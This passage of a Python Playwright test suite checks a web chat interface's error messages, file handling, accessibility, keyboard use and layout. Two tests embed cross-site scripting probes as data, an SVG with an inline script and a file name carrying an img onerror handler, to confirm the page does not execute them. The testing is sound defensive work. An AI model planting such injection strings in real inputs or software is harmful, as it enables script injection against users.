        return deep[body["messages"][-1]["content"].split()[0]]

    with chatting(told, "other") as base, alone(base) as url, opened(tabs, url) as page:
        page.get_by_label("Model").select_option("other")
        asked(page, "quotes")
        assert ">>>>" in answer(page).inner_text()
        page.get_by_role("button", name="As text").click()
        page.get_by_role("button", name="Attributes").click()
        page.get_by_role("textbox", name="What the JSON should hold").fill("- total")
        page.get_by_role("button", name="Use it").click()
        asked(page, "JSON")
        assert "[[[[" in answer(page, 1).inner_text()
        asked(page, "long")
        answer(page, 2).get_by_text("The first 400,000 characters of 1,000,000.").wait_for()


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("data: {torn\n\n", "The answer is none of the API's."),
        ("<html>a proxy's page</html>", "The answer broke off."),
        ('data: {"error": "boom"}\n\n', "boom Try again."),
        ("data: null\r\n\r\ndata: [DONE]\r\n\r\n", "The answer is empty."),
    ],
)
def test_what_is_no_answer_of_the_api_is_a_sentence(page: Any, body: str, told: str) -> None:
    """As a proxy before the server may make it."""
    page.route("**/v1/chat/completions", lambda route: route.fulfill(
        status=200, headers={"content-type": "text/event-stream"}, body=body))  # fmt: skip
    asked(page, "Hello")
    answer(page).get_by_text(told).wait_for()


def test_a_browser_that_keeps_nothing_has_the_page_all_the_same(tabs: Tabs, server: str) -> None:
    """As with all cookies blocked."""
    with tabs.own() as page:
        page.add_init_script(
            """for (const name of ["localStorage", "sessionStorage", "indexedDB"]) {
                Object.defineProperty(window, name, { get() { throw new DOMException("", "SecurityError"); } });
            }"""
        )
        wrong: list[str] = []
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.goto(f"{server}/")
        page.locator(".composer select option").first.wait_for(state="attached")
        page.get_by_role("button", name="History").click()
        page.get_by_role("checkbox").click()
        page.get_by_role("alert").get_by_text("This browser does not keep").wait_for()
        assert not page.get_by_role("checkbox").is_checked()
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Settings").click()
        page.get_by_role("button", name="Dark").click()
        page.get_by_label("API key").fill("ключ")  # which no header holds
        page.get_by_role("button", name="Done").click()
        page.get_by_role("alert").get_by_text("A key is of letters without accents").wait_for()
        page.get_by_role("button", name="Enter the key").click()
        page.get_by_label("API key").fill("any")
        page.get_by_role("button", name="Done").click()
        page.get_by_role("alert").wait_for(state="detached")
        page.get_by_role("button", name="Add by URL").click()
        page.get_by_role("textbox", name="Address of a picture").fill(
            "https://example.invalid/100%.jpg"
        )
        page.get_by_role("button", name="Add", exact=True).click()
        page.locator(".composer").get_by_role("button", name="Open 100%.jpg").wait_for()
        assert wrong == []


def test_files_are_taken_for_what_they_are(page: Any, tmp_path: Path) -> None:
    drawn = tmp_path / "drawn.svg"
    drawn.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 100"><script>alert(1)</script>'
        '<rect width="300" height="100" fill="white"/><text x="20" y="60" font-size="40">HELLO</text></svg>'
    )
    brought(page, drawn)
    asked(page, "What does it say?")
    assert "HELLO" in answer(page).inner_text()
    page.get_by_role("button", name="New conversation").click()
    wrongly = tmp_path / "wrongly.png"
    wrongly.write_bytes(pdf(["Invoice 77"]))
    brought(page, wrongly)
    page.locator(".facts").get_by_text("1 page").wait_for()
    heic = tmp_path / "photo.heic"
    heic.write_bytes(b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(100))
    (tmp_path / "nothing.png").touch()
    brought(page, heic, tmp_path / "nothing.png")
    said = page.get_by_role("alert").inner_text()
    assert "photo.heic is a picture that this browser does not read." in said
    assert "Save it as JPEG or PNG" in said
    assert "nothing.png is empty." in said
    assert page.locator(".composer .thumb").count() == 1


def test_a_film_that_is_dropped_while_one_is_narrated_takes_its_place(
    page: Any, tmp_path: Path
) -> None:
    page.get_by_role("button", name="Narrate").click()
    page.get_by_role("button", name="Take the example").click()
    page.get_by_label("film.mp4").wait_for()
    page.get_by_role("button", name="Write and speak").click()
    page.get_by_role("button", name="Stop").wait_for()
    brought(page, scenes(tmp_path / "other.mp4"))
    page.get_by_label("other.mp4").wait_for()
    page.get_by_role("button", name="Stop").wait_for(state="detached")
    assert page.get_by_role("textbox", name="Text from").count() == 0


def test_a_server_that_goes_in_mid_stream_is_told_of(tabs: Tabs) -> None:
    gone = threading.Event()

    def half(_: Body) -> Iterator[str]:
        yield "The first half, "
        gone.wait(PATIENCE_S)

    with (
        chatting(half, "other") as base,
        commanded(base) as (url, process),
        opened(tabs, url) as page,
    ):
        page.get_by_label("Model").select_option("other")
        asked(page, "Hello")
        page.get_by_text("The first half,").wait_for()
        process.kill()
        said = answer(page)
        gone.set()
        assert "The first half," in said.inner_text()  # what came stays
        told = "The answer broke off. See that it is running"
        assert said.get_by_role("alert").inner_text().startswith(told)
        page.get_by_role("button", name="Retry").click()
        page.get_by_role("alert").get_by_text("The server cannot be reached.").wait_for()
        page.get_by_role("button", name="New conversation").click()
        page.get_by_role("button", name=re.compile("^A chart")).click()
        page.get_by_role("alert").get_by_text("The server cannot be reached.").wait_for()


def test_a_very_long_answer_from_right_to_left(tabs: Tabs) -> None:
    said = "هذا نص طويل."

    def told(_: Body) -> Iterator[str]:
        for number in range(1500):
            yield f"- {number} {'x' * 200}\n"
        yield f"\n\n{said}"

    with chatting(told, "other") as base, alone(base) as url, opened(tabs, url, 360) as page:
        page.get_by_label("Model").select_option("other")
        asked(page, said)
        shown = answer(page)
        assert shown.locator("li").count() == 1500
        accessible(page, "a long answer")
        for text in (shown.locator("p", has_text=said), page.locator(".said-line p")):
            # It begins at the right, its full stop at the left.
            place = text.evaluate(
                """p => {
                    const [range, text] = [document.createRange(), p.firstChild];
                    range.setStart(text, text.data.length - 1);
                    range.setEnd(text, text.data.length);
                    const [dot, box] = [range.getBoundingClientRect(), p.getBoundingClientRect()];
                    range.setStart(text, 0);
                    range.setEnd(text, 1);
                    return [range.getBoundingClientRect().left - dot.left, box.right - dot.right];
                }"""
            )
            assert min(place) > 20


def test_many_files_at_once_and_a_name_that_would_be_html(page: Any, tmp_path: Path) -> None:
    from PIL import Image

    names = ["a<img src=x onerror=alert(1)>.png", *(f"{number}.png" for number in range(19))]
    for number, name in enumerate(names):
        Image.new("RGB", (60, 40), (12 * number, 80, 80)).save(tmp_path / name)
    brought(page, *(tmp_path / name for name in names))
    page.locator(".composer .thumb").nth(19).wait_for()
    assert page.locator("img[src='x']").count() == 0
    for width in (360, 1280):
        page.set_viewport_size({"width": width, "height": 860})
        accessible(page, f"twenty pictures, {width}")
        assert page.get_by_role("button", name="Send").bounding_box()["y"] < 860
    page.get_by_role("button", name=f"Remove {names[0]}").click()
    assert page.locator(".composer .thumb").count() == 19


def test_a_film_that_the_browser_does_not_play_is_read_all_the_same(page: Any) -> None:
    brought(page, CORPUS / "films" / "old.avi")
    page.get_by_text("This browser does not play old.avi").wait_for()
    page.locator(".facts").get_by_text(re.compile(r"\d+ of \d+ frames of")).wait_for()


def test_the_way_back_leads_to_the_part_before(page: Any) -> None:
    current = page.locator("nav [aria-current]")
    page.get_by_role("button", name="Compare").click()
    page.get_by_role("button", name="Narrate").click()
    until(lambda: current.inner_text() == "Narrate")
    page.go_back()
    until(lambda: current.inner_text() == "Compare")
    page.reload()
    page.get_by_role("textbox", name="Question to both").wait_for()
    page.go_back()
    until(lambda: current.inner_text() == "Chat")


def test_two_tabs_keep_apart_what_is_asked_and_share_what_is_kept(tabs: Tabs, server: str) -> None:
    with opened(tabs, server) as page:
        page.get_by_role("button", name="History").click()
        page.get_by_role("checkbox").check()
        page.keyboard.press("Escape")
        other = page.context.new_page()
        other.set_default_timeout(1000 * PATIENCE_S)
        other.goto(f"{server}/")
        page.get_by_role("button", name=re.compile("^A chart")).click()
        answer(page)
        assert other.get_by_role("article").count() == 0
        until(lambda: _kept_titles(other) == ["Which month had the most visitors?"])


def _kept_titles(page: Any) -> list[str]:
    page.get_by_role("button", name="History").click()
    page.locator(".kept li").first.wait_for()
    titles: list[str] = page.locator(".kept-open span").all_inner_texts()
    page.keyboard.press("Escape")
    page.get_by_role("dialog").wait_for(state="detached")
    return titles


def test_a_text_is_copied_where_the_page_has_no_clipboard(tabs: Tabs, server: str) -> None:
    """As over plain HTTP from another machine."""
    with opened(tabs, server) as page:
        page.evaluate("delete Navigator.prototype.clipboard")
        page.get_by_role("button", name=re.compile("^A chart")).click()
        answer(page).get_by_role("button", name="Copy").click()
        page.get_by_role("button", name="Copied").wait_for()
        field = page.get_by_role("textbox", name="Question")
        field.press("Control+V")
        assert "April" in field.input_value()


def test_at_twice_the_size_everything_is_reached(tabs: Tabs, server: str) -> None:
    zoomed: dict[str, Any] = {"viewport": {"width": 640, "height": 430}, "device_scale_factor": 2}
    with opened(tabs, server, **zoomed) as page:
        for part in PARTS:
            page.get_by_role("button", name=part, exact=True).click()
            accessible(page, part)
        page.get_by_role("button", name="Chat", exact=True).click()
        page.get_by_role("button", name="Settings").click()
        done = page.get_by_role("button", name="Done")
        done.scroll_into_view_if_needed()
        assert done.bounding_box()["y"] + done.bounding_box()["height"] <= 430


_FOCUSED = """() => {
    const on = document.activeElement;
    if (on === document.body) return ["", true]; // the browser's own bar, between the last and the first
    const seen = (each) => parseFloat(getComputedStyle(each).outlineWidth) >= 2
        && getComputedStyle(each).outlineStyle !== "none";
    const field = on.closest(".composer:has(textarea:focus)"); // its frame is of another colour
    const around = field && getComputedStyle(field).borderTopColor;
    const other = field && getComputedStyle(field).getPropertyValue("--line-strong");
    return [on.getAttribute("aria-label") ?? on.textContent.trim(), seen(on) || Boolean(around && around !== other)];
}"""


def _walked(page: Any, most: int = 60) -> list[str]:
    """Go from one to the next by the Tab key till the first comes again; see that each is seen to be on."""
    names: list[str] = []
    for _ in range(most):
        page.keyboard.press("Tab")
        name, seen = page.evaluate(_FOCUSED)
        if names and name == names[0]:
            break
        assert seen, name
        names.append(name)
    return names


def test_every_part_is_walked_by_keyboard_and_the_focus_is_seen(page: Any) -> None:
    page.get_by_role("button", name=re.compile("^A receipt What")).focus()
    page.keyboard.press("Enter")
    answer(page)
    walked = _walked(page)
    for name in ("Chat", "Settings", "$16.20", "Copy", "Retry", "Code", "Question", "Evidence",
                 "Open whole", "Change the question", "Add by URL", "As text"):  # fmt: skip
        assert any(name in each for each in walked), (name, walked)
    button = page.get_by_role("button", name="As text")
    button.focus()
    page.keyboard.press("Enter")
    page.get_by_role("dialog").wait_for()
    assert any("Use it" in each for each in _walked(page))
    page.keyboard.press("Escape")
    page.get_by_role("dialog").wait_for(state="detached")
    assert button.evaluate("each => each === document.activeElement")  # it has it back
    for part, inside in (("Compare", "Question to both"), ("Narrate", "Take the example")):
        page.get_by_role("button", name=part, exact=True).focus()
        page.keyboard.press("Enter")
        page.get_by_role("button", name=part, exact=True).and_(
            page.locator("[aria-current]")
        ).wait_for()
        assert any(inside in each for each in _walked(page)), part


FORMS = [(360, "light"), (360, "dark"), (1280, "light"), (1280, "dark"), (1600, "light")]


@pytest.mark.parametrize(("width", "scheme"), FORMS)
def test_everybody_can_use_it(tabs: Tabs, server: str, width: int, scheme: str) -> None:
    dark = scheme == "dark"
    with opened(tabs, server, width, scheme=scheme) as page:
        accessible(page, "first", dark=dark)
        page.get_by_role("button", name=re.compile("^A receipt as JSON")).click()
        said = answer(page)
        for view in ("Tree", "Table", "JSON"):
            said.get_by_role("button", name=view, exact=True).click()
            accessible(page, view, dark=dark)
        for button in ("As JSON", "Add by URL", "History", "Settings", "Code", "Open receipt.webp"):
            page.get_by_role("button", name=button).first.click()
            if button.startswith("Open") and width > 1000:  # it is beside the conversation
                continue
            page.get_by_role("dialog").wait_for()
            accessible(page, button, dark=dark)
            page.keyboard.press("Escape")
            page.get_by_role("dialog").wait_for(state="detached")
        for part in PARTS[1:]:
            page.get_by_role("button", name=part).click()
            accessible(page, part, dark=dark)


def test_nothing_jumps(tabs: Tabs, server: str) -> None:
    """What was laid out stays where it is, from the first paint to the answer."""
    for width in (360, 1280):
        with opened(tabs, server, width) as page:
            page.get_by_role("button", name=re.compile("^A chart")).click()
            answer(page)
            for part in (*PARTS[1:], *PARTS[:1]):
                page.get_by_role("button", name=part, exact=True).click()
            assert jumped(page) < 0.01


def test_by_keyboard_alone(page: Any) -> None:
    page.keyboard.type("What is it?")  # the field has the focus at first
    for _ in range(20):
        page.keyboard.press("Shift+Tab")
        if page.evaluate("document.activeElement.textContent").startswith("A chart"):
            break
    page.keyboard.press("Enter")
    said = answer(page)
    assert "April" in said.inner_text()
    said.get_by_role("button", name="April").first.focus()
    page.locator(".box.on").wait_for()
    # What is pressed and goes hands the focus on.
    for button, then in (
        ("Retry", "Question"),
        ("Change the question", "The question, changed"),
        ("Cancel", "Change the question"),
    ):
        page.get_by_role("button", name=button).focus()
        page.keyboard.press("Enter")
        until(lambda then=then: page.evaluate(_FOCUSED)[0] == then)  # type: ignore[misc]
        answer(page)
    page.get_by_role("button", name="History").focus()
    page.keyboard.press("Enter")
    page.get_by_role("checkbox").press("Space")
    page.get_by_role("button", name="Delete Which").press("Enter")
    page.get_by_text("Nothing is kept yet.").wait_for()
    assert page.evaluate("document.activeElement.type") == "checkbox"


def test_a_double_click_does_no_more_than_one(page: Any) -> None:
    page.get_by_role("button", name=re.compile("^A chart")).dblclick()
    answer(page)
    assert page.get_by_role("article").count() == 2
    page.get_by_role("textbox", name="Question").fill("Which colours does it have?")
    page.get_by_role("button", name="Send").dblclick()
    answer(page, 1)
    assert page.get_by_role("article").count() == 4
    page.get_by_role("button", name="Settings").dblclick()
    page.get_by_role("dialog").wait_for()
    page.get_by_role("button", name="Dark").click()  # it did not close it again
    page.mouse.click(5, 5)  # beside it
    page.get_by_role("dialog").wait_for(state="detached")


def _reached(page: Any, name: str, key: str = "Tab") -> None:
    """Go on by a key till what has the focus is called so."""
    for _ in range(80):
        if page.evaluate(_FOCUSED)[0].startswith(name):
            return
        page.keyboard.press(key)
    raise AssertionError(name)


def test_a_film_is_narrated_by_keyboard_alone(page: Any) -> None:
    """What is pressed and goes, or has to wait, does not take the focus with it."""
    _reached(page, "Narrate", "Shift+Tab")
    page.keyboard.press("Enter")
    _reached(page, "Take the example")
    page.keyboard.press("Enter")
    until(lambda: page.evaluate(_FOCUSED)[0] == "Write the script")
    page.keyboard.press("Enter")
    page.get_by_role("textbox", name="Text from").first.wait_for()
    assert page.evaluate(_FOCUSED)[0] == "Write the script"
    _reached(page, "Text from")
    page.keyboard.press("ControlOrMeta+a")
    page.keyboard.type("Morning comes.")
    rows = page.get_by_role("textbox", name="Text from").count()
    _reached(page, "Remove the text")
    page.keyboard.press("Shift+Tab")
    _reached(page, "Speak the script", "Shift+Tab")
    page.keyboard.press("Enter")
    page.get_by_label("The narrated film").wait_for()
    assert page.get_by_role("textbox", name="Text from").first.input_value() == "Morning comes."
    assert page.evaluate(_FOCUSED)[0] == "Speak the script"
    _reached(page, "SRT", "Shift+Tab")
    with page.expect_download() as given:
        page.keyboard.press("Enter")
    assert b"Morning comes." in Path(given.value.path()).read_bytes()
    _reached(page, "Remove the text")
    page.keyboard.press("Enter")
    until(lambda: page.get_by_role("textbox", name="Text from").count() == rows - 1)
    assert page.evaluate(_FOCUSED)[0].startswith(("Text from", "Add a text"))


def test_motion_is_left_out_where_that_is_wanted(tabs: Tabs) -> None:
    with slow_model() as slow, alone(slow.url) as url:
        for wanted, moves in (("reduce", "none"), ("no-preference", "pulse")):
            with opened(tabs, url, motion=wanted) as page:
                page.get_by_label("Model").select_option("slow")
                asked(page, "Wait")
                dot = page.locator(".waiting i").first
                assert dot.evaluate("i => getComputedStyle(i).animationName") == moves
                slow.wait()
                slow.let_go()
                answer(page)
